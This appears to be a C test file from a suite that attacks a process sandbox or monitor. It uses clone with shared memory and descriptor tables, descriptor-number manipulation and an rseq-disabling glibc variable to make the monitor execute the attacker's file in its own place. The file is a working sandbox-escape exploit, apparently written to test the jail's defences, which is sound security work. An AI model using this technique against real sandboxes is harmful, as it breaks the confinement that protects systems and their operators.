// This file as "the monitor", without a race. A relative on the same memory shares a copy of the descriptor table that the monitor
// no longer counts; where the monitor moves its file's descriptor in its own table, the copy has a free number for this file.
#include "attack.h"
#include <sys/resource.h>

static volatile int moved;
static int base; // where the monitor's descriptors begin (machine/fdtab.c)
static char stack_child[65536], stack_grandchild[65536];

static int grandchild(void *unused) {
    (void)unused;
    while (!moved)
        usleep(1000);
    int own = open("/attack", O_RDONLY);
    for (int i = 0; i < 100; i++)
        fcntl(own, F_DUPFD, base);
    // The jail kills a native program at rseq(2), which has nothing to do with this attack.
    char *argv[] = {"attack", "begun", NULL}, *env[] = {"GLIBC_TUNABLES=glibc.pthread.rseq=0", NULL};
    execve("/attack", argv, env);
    _exit(0);
}

static int child(void *unused) {
    (void)unused;
    clone(grandchild, stack_grandchild + sizeof stack_grandchild, CLONE_VM | CLONE_FILES | CLONE_PARENT,
          NULL);
    return 0; // the copy of the table lives on in the grandchild
}

static void one(void *number) {
    struct rlimit r;
    if (clone(child, stack_child + sizeof stack_child, CLONE_VM | CLONE_VFORK | SIGCHLD, NULL) < 0)
        attack_broken("clone");
    getrlimit(RLIMIT_NOFILE, &r);
    r.rlim_cur = r.rlim_max;
    setrlimit(RLIMIT_NOFILE, &r);
    dup2(0, base + (int)(intptr_t)number); // who stands there has to move
    moved = 1;
    for (int status, n = 0; n < 2; n++)
        if (waitpid(-1, &status, __WALL) > 0 && attack_child_won(status))
            _exit(ATTACK_WON);
}

int main(int argc, char **argv) {
    attack_check_native();
    if (argc > 1)
        return 0;
    (void)argv;
    struct rlimit r;
    getrlimit(RLIMIT_NOFILE, &r);
    int top = r.rlim_cur < 4096 ? (int)r.rlim_cur : 4096;
    base = r.rlim_cur <= 4096 && r.rlim_max >= r.rlim_cur + 128 ? (int)r.rlim_cur + 64
           : top > 128                                          ? top - 64
                                                                : top / 2;
    for (intptr_t i = 0; i < 40 && !attack_over(); i++)
        if (attack_child_won(attack_child(one, (void *)(i % 8))))
            attack_won("the monitor executed this file in its own place");
    attack_lost();
}
